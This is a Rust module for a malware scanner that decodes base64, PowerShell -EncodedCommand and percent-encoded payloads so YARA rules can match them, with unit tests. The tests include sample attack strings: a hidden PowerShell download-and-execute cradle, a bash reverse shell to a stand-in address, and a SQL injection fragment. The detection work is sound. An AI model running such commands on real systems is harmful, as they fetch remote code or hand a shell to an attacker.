//! Finding and decoding the hidden payloads YARA rules should see in clear: PowerShell
//! `-EncodedCommand` arguments (base64 of UTF-16LE), other long base64 runs, and
//! percent-encoded URLs.
//!
//! Everything here works on untrusted text and never panics: positions come from byte scans
//! over ASCII characters, so slicing never splits a UTF-8 character.

use base64::Engine as _;

/// Base64 runs shorter than this are left alone: short runs are mostly words, hashes and ids,
/// and decoding them yields noise.
pub(crate) const MIN_BASE64_RUN: usize = 40;

/// How a decoded payload was obtained (goes to the alert's `details.decoding`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Decoding {
    /// Base64 whose bytes are UTF-16LE text (PowerShell `-EncodedCommand`), turned into UTF-8.
    Base64Utf16,
    /// Base64 scanned as the decoded bytes.
    Base64,
    /// Percent-encoding (`%27`, `+` for space) of URLs.
    Percent,
}

impl Decoding {
    /// The name used in alert details.
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Decoding::Base64Utf16 => "base64-utf16le",
            Decoding::Base64 => "base64",
            Decoding::Percent => "percent",
        }
    }
}

fn is_base64_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_')
}

/// The base64 runs of at least `min_len` characters in `text`, as byte ranges. A run is a
/// maximal stretch of base64 characters (standard or URL-safe alphabet, `=` padding).
pub(crate) fn base64_runs(text: &[u8], min_len: usize) -> Vec<std::ops::Range<usize>> {
    let mut runs = Vec::new();
    let mut start = None;
    for (index, &byte) in text.iter().enumerate() {
        match (is_base64_byte(byte), start) {
            (true, None) => start = Some(index),
            (false, Some(begin)) => {
                if index - begin >= min_len {
                    runs.push(begin..index);
                }
                start = None;
            }
            _ => {}
        }
    }
    if let Some(begin) = start {
        if text.len() - begin >= min_len {
            runs.push(begin..text.len());
        }
    }
    runs
}

/// Decodes a base64 run (standard or URL-safe, padded or not). Trailing characters that do not
/// make a full quantum are dropped so that a run glued to a following word still decodes.
pub(crate) fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
    let trimmed = trim_padding(run);
    // A run may be followed by text that happens to be base64 characters too; cut to a whole
    // number of 4-character groups (a 1-character tail can never be valid).
    let usable = match trimmed.len() % 4 {
        1 => trimmed.get(..trimmed.len() - 1)?,
        _ => trimmed,
    };
    if usable.is_empty() {
        return None;
    }
    let url_safe = usable.iter().any(|&byte| byte == b'-' || byte == b'_');
    let engine = if url_safe {
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
    } else {
        &base64::engine::general_purpose::STANDARD_NO_PAD
    };
    engine.decode(usable).ok()
}

fn trim_padding(run: &[u8]) -> &[u8] {
    let mut end = run.len();
    while end > 0 && run.get(end - 1) == Some(&b'=') {
        end -= 1;
    }
    run.get(..end).unwrap_or(run)
}

/// True when `bytes` look like UTF-16LE text: even length and mostly zero high bytes on
/// ASCII characters, which is what PowerShell's `-EncodedCommand` carries.
pub(crate) fn looks_like_utf16le(bytes: &[u8]) -> bool {
    if bytes.len() < 4 || !bytes.len().is_multiple_of(2) {
        return false;
    }
    let pairs = bytes.len() / 2;
    let ascii_pairs = bytes
        .chunks_exact(2)
        .filter(|pair| matches!(pair, [low, 0] if *low != 0))
        .count();
    // Allow some non-ASCII characters (Vietnamese text in a script), but most of a command
    // is ASCII.
    ascii_pairs * 10 >= pairs * 7
}

/// UTF-16LE bytes as UTF-8 text; invalid code units become U+FFFD.
pub(crate) fn utf16le_to_utf8(bytes: &[u8]) -> Vec<u8> {
    let units = bytes
        .chunks_exact(2)
        .map(|pair| match pair {
            [low, high] => u16::from_le_bytes([*low, *high]),
            _ => 0,
        });
    char::decode_utf16(units)
        .map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect::<String>()
        .into_bytes()
}

/// True when the decoded bytes are worth scanning: mostly printable text or clearly binary
/// content with some structure. Random-looking output of a word that happened to be valid
/// base64 is not: we require that at least half the bytes be printable ASCII or whitespace.
pub(crate) fn worth_scanning(bytes: &[u8]) -> bool {
    if bytes.is_empty() {
        return false;
    }
    let printable = bytes
        .iter()
        .filter(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace())
        .count();
    printable * 2 >= bytes.len()
}

/// The argument of a PowerShell `-EncodedCommand` (any unambiguous abbreviation: `-e`, `-en`,
/// `-enc`, …, or `-ec`; `/` works as the flag prefix too) in a command line: the byte range
/// of the base64 text, quotes excluded.
pub(crate) fn powershell_encoded_arguments(command_line: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut found = Vec::new();
    let mut position = 0;
    while let Some(relative) = memchr::memchr2(b'-', b'/', command_line.get(position..).unwrap_or_default()) {
        let flag_start = position + relative;
        position = flag_start + 1;
        // A flag starts a word.
        if flag_start > 0 && !matches!(command_line.get(flag_start - 1), Some(b' ' | b'\t' | b'"' | b'\'')) {
            continue;
        }
        let name_end = command_line
            .get(position..)
            .unwrap_or_default()
            .iter()
            .position(|byte| !byte.is_ascii_alphabetic())
            .map_or(command_line.len(), |offset| position + offset);
        let name = command_line.get(position..name_end).unwrap_or_default();
        if !is_encoded_command_flag(name) {
            continue;
        }
        let argument_start = skip_spaces_and_quote(command_line, name_end);
        if argument_start == name_end {
            // The flag must be followed by whitespace.
            continue;
        }
        let argument_end = command_line
            .get(argument_start..)
            .unwrap_or_default()
            .iter()
            .position(|&byte| !is_base64_byte(byte))
            .map_or(command_line.len(), |offset| argument_start + offset);
        if argument_end > argument_start {
            found.push(argument_start..argument_end);
        }
        position = argument_end.max(position);
    }
    found
}

fn is_encoded_command_flag(name: &[u8]) -> bool {
    const FULL: &[u8] = b"encodedcommand";
    if name.is_empty() {
        return false;
    }
    let lower: Vec<u8> = name.iter().map(u8::to_ascii_lowercase).collect();
    lower == b"ec" || (lower.first() == Some(&b'e') && FULL.starts_with(&lower))
}

fn skip_spaces_and_quote(text: &[u8], from: usize) -> usize {
    let mut index = from;
    while matches!(text.get(index), Some(b' ' | b'\t')) {
        index += 1;
    }
    if index == from {
        return from;
    }
    if matches!(text.get(index), Some(b'"' | b'\'')) {
        index += 1;
    }
    index
}

/// Percent-decodes a URL or query string (`+` becomes a space). Returns `None` when there is
/// nothing to decode. Invalid escapes are kept as written.
pub(crate) fn percent_decode(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memchr2(b'%', b'+', text)?;
    let mut decoded = Vec::with_capacity(text.len());
    let mut index = 0;
    while let Some(&byte) = text.get(index) {
        match byte {
            b'%' => match (text.get(index + 1).and_then(hex_value), text.get(index + 2).and_then(hex_value)) {
                (Some(high), Some(low)) => {
                    decoded.push(high << 4 | low);
                    index += 3;
                    continue;
                }
                _ => decoded.push(b'%'),
            },
            b'+' => decoded.push(b' '),
            other => decoded.push(other),
        }
        index += 1;
    }
    (decoded != text).then_some(decoded)
}

fn hex_value(byte: &u8) -> Option<u8> {
    match byte {
        b'0'..=b'9' => Some(byte - b'0'),
        b'a'..=b'f' => Some(byte - b'a' + 10),
        b'A'..=b'F' => Some(byte - b'A' + 10),
        _ => None,
    }
}

/// Decodes one base64 payload into what YARA should scan: UTF-16LE text becomes UTF-8, other
/// bytes are kept when they look like content. `None` when the run is not base64 or decodes
/// to noise.
pub(crate) fn decode_payload(run: &[u8]) -> Option<(Vec<u8>, Decoding)> {
    let bytes = decode_base64(run)?;
    if looks_like_utf16le(&bytes) {
        return Some((utf16le_to_utf8(&bytes), Decoding::Base64Utf16));
    }
    worth_scanning(&bytes).then_some((bytes, Decoding::Base64))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_base64(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn finds_every_spelling_of_the_encoded_command_flag() {
        let payload = utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
        for flag in ["-e", "-en", "-enc", "-EncodedCommand", "-ENCODEDCOMMAND", "-ec", "/enc", "-encod"] {
            let line = format!("powershell.exe -nop -w hidden {flag} {payload}");
            let ranges = powershell_encoded_arguments(line.as_bytes());
            assert_eq!(ranges.len(), 1, "{flag}");
            let argument = ranges.first().and_then(|range| line.get(range.clone())).unwrap_or_default();
            assert_eq!(argument, payload, "{flag}");
        }
        let quoted = format!("powershell -enc \"{payload}\"");
        assert_eq!(powershell_encoded_arguments(quoted.as_bytes()).len(), 1);
        // -ExecutionPolicy is not an abbreviation of -EncodedCommand.
        assert!(powershell_encoded_arguments(b"powershell -ExecutionPolicy Bypass -File x.ps1").is_empty());
        assert!(powershell_encoded_arguments(b"cmd.exe /c echo -e").is_empty());
    }

    #[test]
    fn encoded_command_decodes_to_utf8_text() {
        let payload = utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
        let (text, decoding) = decode_payload(payload.as_bytes()).unwrap_or_default_pair();
        assert_eq!(decoding, Some(Decoding::Base64Utf16));
        assert_eq!(String::from_utf8_lossy(&text), "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
    }

    trait OrDefaultPair {
        fn unwrap_or_default_pair(self) -> (Vec<u8>, Option<Decoding>);
    }

    impl OrDefaultPair for Option<(Vec<u8>, Decoding)> {
        fn unwrap_or_default_pair(self) -> (Vec<u8>, Option<Decoding>) {
            match self {
                Some((bytes, decoding)) => (bytes, Some(decoding)),
                None => (Vec::new(), None),
            }
        }
    }

    #[test]
    fn plain_base64_runs_are_found_and_decoded() {
        let encoded = base64::engine::general_purpose::STANDARD.encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        let line = format!("echo {encoded} | base64 -d | bash");
        let runs = base64_runs(line.as_bytes(), MIN_BASE64_RUN);
        assert_eq!(runs.len(), 1);
        let run = runs.first().and_then(|range| line.as_bytes().get(range.clone())).unwrap_or_default();
        let (bytes, decoding) = decode_payload(run).unwrap_or_default_pair();
        assert_eq!(decoding, Some(Decoding::Base64));
        assert_eq!(bytes, b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        // Short runs are ignored, and so is random binary output.
        assert!(base64_runs(b"user=admin id=12345", MIN_BASE64_RUN).is_empty());
        assert!(decode_payload(&[b'A'; 3]).is_none());
    }

    #[test]
    fn percent_decoding_handles_plus_and_bad_escapes() {
        assert_eq!(percent_decode(b"/a?id=1%27%20UNION+SELECT%2").as_deref(), Some(&b"/a?id=1' UNION SELECT%2"[..]));
        assert_eq!(percent_decode(b"/plain/path"), None);
        assert_eq!(percent_decode(b"%zz"), None);
    }

    #[test]
    fn decoders_never_panic_on_odd_input() {
        for input in [&b""[..], b"-", b"-e", b"-e ", b"-e \"", b"%", b"%4", b"====", b"\xff\xfe-enc \xff", b"A===", b"-ec\t"] {
            let _ = powershell_encoded_arguments(input);
            let _ = percent_decode(input);
            let _ = base64_runs(input, 1);
            let _ = decode_payload(input);
        }
    }
}
